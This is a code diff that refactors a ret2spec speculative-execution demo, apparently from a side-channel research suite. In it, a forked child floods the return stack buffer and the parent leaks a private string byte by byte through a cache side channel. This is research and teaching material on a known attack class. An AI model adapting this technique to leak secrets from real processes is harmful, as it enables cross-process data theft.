@@ -37,10 +37,14 @@
 #include <iostream>
 #include <vector>
 
+#include <signal.h>
 #include <sys/types.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include "cache_sidechannel.h"
+#include "demo_registry.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "ret2spec_common.h"
@@ -51,7 +55,7 @@ static void Unschedule() {
   sched_yield();
 }
 
-int main() {
+static void RunDemo(DemoContext &context) {
   return_true_base_case = Unschedule;
   return_false_base_case = Unschedule;
   // Parent PID for the death-checking of the child.
@@ -59,10 +63,13 @@ int main() {
   // We need both processes to run on the same core. Pinning the parent before
   // the fork to the first core. The child inherits the settings.
   PinToTheFirstCore();
-  if (fork() == 0) {
+  // Sized before the fork, so that both processes recurse equally deep.
+  UseMeasuredRecursionDepth();
+  pid_t pid = fork();
+  if (pid == 0) {
     // The child (attacker) infinitely fills the RSB using recursive calls.
     while (true) {
-      ReturnsFalse(kRecursionDepth);
+      ReturnsFalse(recursion_depth);
       // If the parent pid changed, the parent is dead and it's time to
       // terminate.
       if (getppid() != ppid) {
@@ -72,13 +79,22 @@ int main() {
   } else {
     // The parent (victim) calls only LeakByte and ReturnTrue, never
     // ReturnFalse.
-    std::cout << "Leaking the string: ";
-    std::cout.flush();
+    CacheSideChannel &sidechannel = context.sidechannel();
+    context.BeginLeak(private_data);
     for (size_t i = 0; i < strlen(private_data); ++i) {
       current_offset = i;
-      std::cout << Ret2specLeakByte();
-      std::cout.flush();
+      ExperimentOutcome outcome =
+          Ret2specLeakByte(sidechannel, context.budget());
+      if (!context.ReportByte(outcome)) {
+        break;
+      }
     }
+    // The child would only notice the end of the demo when the whole process
+    // exits, so stop it explicitly.
+    kill(pid, SIGKILL);
+    waitpid(pid, nullptr, 0);
   }
-  std::cout << "\nDone!\n";
+  context.EndLeak();
 }
+
+SAFESIDE_REGISTER_DEMO(ret2spec_ca, RunDemo);